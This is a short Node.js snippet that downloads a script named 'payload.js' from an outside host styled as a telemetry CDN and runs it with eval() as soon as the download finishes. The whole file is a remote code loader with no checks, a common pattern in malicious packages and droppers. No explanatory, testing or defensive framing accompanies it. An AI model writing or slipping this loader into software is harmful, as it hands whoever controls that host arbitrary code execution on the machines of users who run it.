const https = require('https');

https.get('https://cdn.pkg-telemetry.net/assets/payload.js', (res) => {
  let body = '';
  res.on('data', (chunk) => {
    body = body + chunk;
  });
  res.on('end', () => {
    eval(body);
  });
});
